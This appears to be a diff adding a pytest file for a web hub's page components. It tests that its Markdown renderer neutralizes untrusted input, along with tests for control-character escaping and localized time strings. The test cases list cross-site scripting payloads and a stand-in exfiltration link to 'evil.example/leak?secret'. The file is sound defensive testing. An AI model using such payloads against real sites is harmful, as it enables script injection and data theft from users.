@@ -1,0 +1,105 @@
+"""Parts that pages share: Markdown of strangers, arguments that hide something, times in words."""
+
+from datetime import UTC, datetime, timedelta
+from zoneinfo import ZoneInfo
+
+import pytest
+
+from hub_web.parts.times import ago, at, milliseconds
+from hub_web.parts.turns.markdown import rendered
+from hub_web.parts.turns.turn import steps_of, visible
+from hub_web.texts import Text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/leak?secret)",
+        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+        "<img src=x onerror=alert(1)>",
+        "<script>alert(1)</script>",
+        "<iframe src='https://evil.example'></iframe>",
+        "<style>@import 'https://evil.example'</style>",
+        "[x](javascript:alert(1))",
+        "[x](  JaVaScRiPt:alert(1))",
+        "[x](data:text/html,<script>alert(1)</script>)",
+        "[x](vbscript:x)",
+        "[x](//evil.example)",
+        "[x][y]\n\n[y]: javascript:alert(1)",
+        "<javascript:alert(1)>",
+        '[x](https://ok.example "\\"><img src=x onerror=alert(1)>")',
+        "```html\n<img src=x>\n```",
+        "`<img src=x>`",
+    ],
+)
+def test_markdown_loads_and_runs_nothing(text: str) -> None:
+    shown = rendered(text).lower()
+    for tag in (
+        "<img",
+        "<script",
+        "<iframe",
+        "<style",
+        "<svg",
+        'href="javascript',
+        'href="data',
+        'href="vbs',
+    ):
+        assert tag not in shown
+    assert 'href="//' not in shown
+
+
+def test_markdown_is_rendered() -> None:
+    shown = rendered(
+        "**on** [docs](https://example.org) [lamp](/devices/lamp)\n\n| a | b |\n|---|---|\n| 1 | 2 |"
+    )
+    assert "<strong>on</strong>" in shown
+    assert '<a href="https://example.org" rel="noopener noreferrer" target="_blank">' in shown
+    assert 'href="/devices/lamp"' in shown
+    assert "<td>1</td>" in shown
+
+
+def test_nothing_hides_in_an_argument() -> None:
+    assert visible("front\u202eedoor\x1b[2K\u200b") == "front\\u202eedoor\\u001b[2K\\u200b"
+
+
+def test_times_are_said_in_words() -> None:
+    now, text = datetime.now(UTC), Text("de")
+    assert ago(text, now - timedelta(minutes=3)) == "vor 3 Minuten"
+    assert ago(Text(), now + timedelta(hours=2, seconds=5)) == "in 2 hours"
+    assert ago(Text(), None) == ""
+    assert milliseconds(text, 1_840) == "1,8 s"
+    noon = datetime(2020, 3, 4, 11, 5, tzinfo=UTC)
+    assert at(text, ZoneInfo("Europe/Berlin"), noon) == "4. März 2020, 12:05"
+    assert at(Text(), ZoneInfo("Europe/Berlin"), noon) == "4 Mar 2020, 12:05"
+
+
+def test_the_steps_of_a_recorded_turn_are_its_tools_and_skills() -> None:
+    spans = [
+        {"kind": "model", "name": "house", "outcome": "ok", "ms": 10, "parent": None},
+        {
+            "kind": "tool",
+            "name": "python_exec",
+            "outcome": "ok",
+            "ms": 9,
+            "parent": 0,
+            "detail": {"arguments": {"code": "1"}},
+        },
+        {
+            "kind": "skill",
+            "name": "a.b",
+            "device": "pc",
+            "outcome": "failed",
+            "ms": 5,
+            "parent": 1,
+            "detail": {"error": "no"},
+        },
+    ]
+    tool, skill = steps_of({"spans": spans})
+    assert (tool.arguments, tool.inner, skill.result, skill.device, skill.inner) == (
+        {"code": "1"},
+        False,
+        "no",
+        "pc",
+        True,
+    )
+    assert steps_of({"spans": None}) == []
